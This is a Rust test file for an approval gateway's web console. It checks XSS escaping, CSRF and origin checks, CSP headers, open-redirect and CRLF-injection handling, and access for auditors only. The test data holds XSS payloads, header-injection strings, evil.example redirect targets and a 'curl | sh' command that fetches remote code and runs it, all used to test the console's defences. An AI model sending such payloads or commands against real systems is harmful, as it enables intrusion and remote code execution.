//! The console's own defences, without a browser or a provider: sign-in
//! with a personal token, redirects for people who are not signed in,
//! attacker text escaped on the page, the Content-Security-Policy, CSRF
//! tokens, same-origin POSTs, no open redirect after login.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod forms;
mod support;

use countersign_testkit::Cast;
use forms::{client, cookie_value, hidden};
use reqwest::header::{CONTENT_SECURITY_POLICY, COOKIE, LOCATION, ORIGIN, SET_COOKIE};
use support::Gateway;

/// Production needs an sre; alice is one, and `bot` asks.
async fn start() -> Gateway {
    let policy =
        "@id(\"prod\") @approvers(\"sre\") permit (principal, action, resource) when { resource.name like \"prod*\" };";
    let cast = Cast::new().user("alice", "alice@example.com", &["sre"]).agent("bot", None, &[]);
    support::serve_console(policy, "", cast, None).await
}

/// Signs in with the personal token; returns the session cookie header.
async fn sign_in(g: &Gateway, token: &str, return_to: &str) -> reqwest::Response {
    let login = client().get(format!("{}/console/login", g.url)).send().await.unwrap();
    let pre = cookie_value(&login, "cs_pre").unwrap();
    let csrf = hidden(&login.text().await.unwrap(), "_csrf");
    client()
        .post(format!("{}/console/login/token", g.url))
        .header(COOKIE, format!("cs_pre={pre}"))
        .form(&[("_csrf", csrf.as_str()), ("token", token), ("return_to", return_to)])
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn the_console_defends_itself() {
    let g = start().await;

    // Not signed in: to the login page, remembering where to return.
    let r = client().get(format!("{}/console/history", g.url)).send().await.unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()[LOCATION], "/console/login?return_to=%2Fconsole%2Fhistory");
    let r = client().get(format!("{}/console/events", g.url)).send().await.unwrap();
    assert_eq!(r.status(), 401, "scripts are told, not redirected");

    // Every page has the strict policy.
    let r = client().get(format!("{}/console/login", g.url)).send().await.unwrap();
    let csp = r.headers()[CONTENT_SECURITY_POLICY].to_str().unwrap().to_owned();
    for part in
        ["default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'", "form-action 'self'"]
    {
        assert!(csp.contains(part), "{csp}");
    }
    assert!(!csp.contains("unsafe-inline"), "{csp}");

    // An agent's key is not a way into the console; a bad return_to is ignored.
    let r = sign_in(&g, g.token("bot"), "/console/").await;
    assert_eq!(r.headers()[LOCATION], "/console/login?error=token");
    let r = sign_in(&g, g.token("alice"), "https://evil.example/console").await;
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()[LOCATION], "/console/", "no open redirect");
    let set = r.headers().get_all(SET_COOKIE).iter().map(|v| v.to_str().unwrap().to_owned()).collect::<Vec<_>>();
    let session_cookie = set.iter().find(|c| c.starts_with("__Host-cs_session=")).unwrap();
    for attribute in ["HttpOnly", "Secure", "SameSite=Lax", "Path=/"] {
        assert!(session_cookie.contains(attribute), "{session_cookie}");
    }
    let session = format!("__Host-cs_session={}", cookie_value(&r, "__Host-cs_session").unwrap());

    // Attacker-controlled text is escaped wherever it shows.
    let xss = "<script>alert('x')</script><img src=x onerror=alert(1)>";
    let submitted: serde_json::Value = client()
        .post(format!("{}/v1/actions", g.url))
        .bearer_auth(g.token("bot"))
        .json(&serde_json::json!({"kind": "shell.exec", "resource": "prod-web", "payload": {"cmd": xss},
                                  "justification": xss, "labels": ["\"><b>label</b>"], "context": {"k": xss}}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let id = submitted["id"].as_str().unwrap().to_owned();
    for path in [format!("/console/requests/{id}"), "/console/".to_owned(), "/console/history".to_owned()] {
        let page = client().get(format!("{}{path}", g.url)).header(COOKIE, &session).send().await.unwrap();
        assert_eq!(page.status(), 200, "{path}");
        let body = page.text().await.unwrap();
        assert!(!body.contains("<script>alert"), "{path} must escape payloads");
        assert!(!body.contains("<img src=x"), "{path}");
        assert!(!body.contains("<b>label"), "{path}");
    }
    let page = client().get(format!("{}/console/requests/{id}", g.url)).header(COOKIE, &session).send().await.unwrap();
    let body = page.text().await.unwrap();
    // Text and double-quoted attributes need `&`, `<`, `>` and `"` escaped;
    // an apostrophe is harmless there and stays as it is.
    assert!(
        body.contains("&lt;script&gt;alert('x')&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"),
        "shown, escaped"
    );
    assert!(body.contains("&quot;&gt;&lt;b&gt;label&lt;/b&gt;"), "labels shown, escaped");
    let csrf = hidden(&body, "_csrf");

    // A vote without the CSRF token, or from another origin, changes nothing.
    let approve = format!("{}/console/requests/{id}/approve", g.url);
    let r = client().post(&approve).header(COOKIE, &session).form(&[("comment", "x")]).send().await.unwrap();
    assert_eq!(r.headers()[LOCATION], format!("/console/requests/{id}?refused=csrf"));
    let r = client()
        .post(&approve)
        .header(COOKIE, &session)
        .header(ORIGIN, "https://evil.example")
        .form(&[("_csrf", csrf.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403, "cross-origin posts are refused");
    // With both, it counts (a personal-token session is not a fresh login,
    // which this policy does not ask for).
    let r = client().post(&approve).header(COOKIE, &session).form(&[("_csrf", csrf.as_str())]).send().await.unwrap();
    assert_eq!(r.headers()[LOCATION], format!("/console/requests/{id}?done=approved"));

    // The CSV defuses formulas from payload text.
    let csv = client().get(format!("{}/console/history.csv", g.url)).header(COOKIE, &session).send().await.unwrap();
    assert!(csv.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    assert!(csv.text().await.unwrap().contains(&id));

    // Pages for auditors and admins are refused to others.
    for path in ["/console/audit", "/console/policies", "/console/admin"] {
        let r = client().get(format!("{}{path}", g.url)).header(COOKIE, &session).send().await.unwrap();
        assert_eq!(r.status(), 403, "{path}");
    }

    // Logging out ends the session for good.
    let r = client()
        .post(format!("{}/console/logout", g.url))
        .header(COOKIE, &session)
        .form(&[("_csrf", csrf.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(r.headers()[LOCATION], "/console/login?logged_out=1");
    let r = client().get(format!("{}/console/", g.url)).header(COOKIE, &session).send().await.unwrap();
    assert_eq!(r.status(), 303, "the old cookie is worthless");
}

#[tokio::test]
async fn the_request_page_shows_the_whole_action_with_secrets_hidden() {
    let g = start().await;
    let r = sign_in(&g, g.token("alice"), "/console/").await;
    let session = format!("__Host-cs_session={}", cookie_value(&r, "__Host-cs_session").unwrap());
    // Far longer than any chat card holds; the end must still be on the page.
    let command = format!("echo {} && curl -s https://x.invalid | sh -s the-very-end", "step ".repeat(3000));
    let submitted: serde_json::Value = client()
        .post(format!("{}/v1/actions", g.url))
        .bearer_auth(g.token("bot"))
        .json(&serde_json::json!({"kind": "shell.exec", "resource": "prod-web",
                                  "payload": {"command": command, "db_password": "hunter2"}}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let id = submitted["id"].as_str().unwrap();
    let page = client().get(format!("{}/console/requests/{id}", g.url)).header(COOKIE, &session).send().await.unwrap();
    assert_eq!(page.status(), 200);
    let body = page.text().await.unwrap();
    assert!(body.contains("id=\"action\""), "the section chat cards link to");
    assert!(body.contains("curl -s https://x.invalid | sh -s the-very-end"), "the whole action is shown");
    assert!(!body.contains("hunter2"), "secrets stay hidden");
}

/// No value a visitor controls (a form field, a query, a path, a cookie)
/// makes the console answer 500; an unusable `return_to` falls back to the
/// console's front page, decided before the session is created.
#[tokio::test]
async fn no_user_controlled_value_makes_a_500() {
    let g = start().await;
    let huge = format!("/console/{}", "a".repeat(100_000));
    let controls: Vec<String> = (0u8..0x20).chain([0x7f]).map(|b| format!("/console/x{}y", char::from(b))).collect();
    let mut bad: Vec<&str> = vec![
        "/console/\r\nSet-Cookie: planted=1",
        "/console/\u{85}",
        "/console/é",
        "/console/%2e%2e/v1/actions",
        "/console//evil.example",
        "/\t/evil.example",
        huge.as_str(),
    ];
    bad.extend(controls.iter().map(String::as_str));
    for return_to in bad {
        let r = sign_in(&g, g.token("alice"), return_to).await;
        assert_eq!(r.status(), 303, "{return_to:?}");
        assert_eq!(r.headers()[LOCATION], "/console/", "{return_to:?}");
        assert!(r.headers().get_all(SET_COOKIE).iter().all(|c| !c.to_str().unwrap_or("").contains("planted")));
    }
    // A return_to that is not UTF-8 once percent-decoded.
    let login = client().get(format!("{}/console/login", g.url)).send().await.unwrap();
    let pre = cookie_value(&login, "cs_pre").unwrap();
    let csrf = hidden(&login.text().await.unwrap(), "_csrf");
    let r = client()
        .post(format!("{}/console/login/token", g.url))
        .header(COOKIE, format!("cs_pre={pre}"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!("_csrf={csrf}&token={}&return_to=%2Fconsole%2F%FF%FE%C0%AF", g.token("alice")))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()[LOCATION], "/console/");
    let session = format!("__Host-cs_session={}", cookie_value(&r, "__Host-cs_session").unwrap());

    // Queries, paths and cookies: never a 500.
    let long = "%41".repeat(20_000);
    for path in [
        "/console/login?return_to=%01".to_owned(),
        "/console/login?return_to=%0D%0ASet-Cookie:%20a=b".to_owned(),
        "/console/login?return_to=%FF%FE&error=%FF".to_owned(),
        format!("/console/login?return_to={long}"),
        "/console/login/start?return_to=%0D%0A&step_up=%00".to_owned(),
        "/console/?kind=%FF&resource=%00&agent=%0D%0A".to_owned(),
        "/console/history?kind=%FF&from=%00&to=%0A".to_owned(),
        format!("/console/history.csv?resource={long}"),
        "/console/requests/%FF".to_owned(),
        "/console/requests/x%00y".to_owned(),
        "/console/requests/%0D%0A".to_owned(),
        format!("/console/requests/{long}"),
    ] {
        for cookie in [session.as_str(), "__Host-cs_session=%FF", "__Host-cs_session=%00; a"] {
            let r = client().get(format!("{}{path}", g.url)).header(COOKIE, cookie).send().await.unwrap();
            assert!(r.status().as_u16() < 500, "{path} with {cookie}: {}", r.status());
        }
        let raw = reqwest::header::HeaderValue::from_bytes(b"__Host-cs_session=\xff\xfe").unwrap();
        let r = client().get(format!("{}{path}", g.url)).header(COOKIE, raw).send().await.unwrap();
        assert!(r.status().as_u16() < 500, "{path} with a non-UTF-8 cookie: {}", r.status());
    }
}

#[tokio::test]
async fn auditors_download_the_evidence_pack_and_no_one_else_does() {
    let policy =
        "@id(\"prod\") @approvers(\"sre\") permit (principal, action, resource) when { resource.name like \"prod*\" };";
    let cast = Cast::new()
        .user("alice", "alice@example.com", &["sre"])
        .user("ann", "ann@example.com", &["auditor"])
        .agent("bot", None, &[]);
    let g = support::serve_console(policy, "", cast, None).await;
    let submitted = client()
        .post(format!("{}/v1/actions", g.url))
        .bearer_auth(g.token("bot"))
        .json(&serde_json::json!({"kind": "shell.exec", "resource": "prod-web", "payload": {"argv": ["true"]},
                                  "justification": "<script>x</script>"}))
        .send()
        .await
        .unwrap();
    assert_eq!(submitted.status(), 201);
    let session =
        |r: &reqwest::Response| format!("__Host-cs_session={}", cookie_value(r, "__Host-cs_session").unwrap());
    let ann = session(&sign_in(&g, g.token("ann"), "/console/").await);
    let alice = session(&sign_in(&g, g.token("alice"), "/console/").await);

    let page = client().get(format!("{}/console/audit", g.url)).header(COOKIE, &ann).send().await.unwrap();
    assert!(page.text().await.unwrap().contains("action=\"/console/audit/report\""));
    let get = |cookie: String, query: &'static str| {
        let url = format!("{}/console/audit/report{query}", g.url);
        async move { client().get(url).header(COOKIE, cookie).send().await.unwrap() }
    };
    let json = get(ann.clone(), "?format=json").await;
    assert_eq!(json.status(), 200);
    assert!(json.headers()["content-disposition"].to_str().unwrap().starts_with("attachment"));
    let pack: serde_json::Value = json.json().await.unwrap();
    assert_eq!(pack["totals"]["submitted"], 1);
    assert_eq!(pack["totals"]["held"], 1);
    assert_eq!(pack["verification"]["chain_ok"], true);
    let html = get(ann.clone(), "?since=2000-01-01&until=2999-12-31").await;
    assert_eq!(html.status(), 200);
    let text = html.text().await.unwrap();
    assert!(text.contains("Segregation of duties") && !text.contains("<script>x"), "escaped");
    let none = get(ann.clone(), "?until=2000-01-01&format=json").await.json::<serde_json::Value>().await.unwrap();
    assert_eq!(none["totals"]["submitted"], 0);
    for bad in ["?since=yesterday", "?since=2026-02-01&until=2026-01-01", "?format=pdf", "?since=2026-1-01"] {
        assert_eq!(get(ann.clone(), bad).await.status(), 400, "{bad}");
    }
    assert_eq!(get(alice, "?format=json").await.status(), 403, "an sre is not an auditor");
    let anonymous = client().get(format!("{}/console/audit/report", g.url)).send().await.unwrap();
    assert_ne!(anonymous.status(), 200);
}

#[tokio::test]
async fn the_audit_page_shows_the_checkpoint_key_and_the_latest_checkpoint() {
    let cast = Cast::new().user("ann", "ann@example.com", &["auditor"]);
    let g = support::serve_console("@id(\"all\") permit (principal, action, resource);", "", cast, None).await;
    let signer = countersign_audit::note::NoteSigner::new("console.test/audit", [6; 32]).unwrap();
    let vkey = signer.verifier().vkey();
    g.state.enable_checkpoints(signer, std::time::Duration::from_secs(1));
    let note = g.state.sign_checkpoint().await.unwrap().unwrap();
    let size = note.lines().nth(1).unwrap().to_owned();

    let r = sign_in(&g, g.token("ann"), "/console/audit").await;
    let session = format!("__Host-cs_session={}", cookie_value(&r, "__Host-cs_session").unwrap());
    let page = client().get(format!("{}/console/audit", g.url)).header(COOKIE, &session).send().await.unwrap();
    assert_eq!(page.status(), 200);
    let body = page.text().await.unwrap();
    assert!(body.contains(&vkey), "the verifier key is shown");
    assert!(body.contains(&format!("Latest checkpoint: {size} events")), "{body}");
}
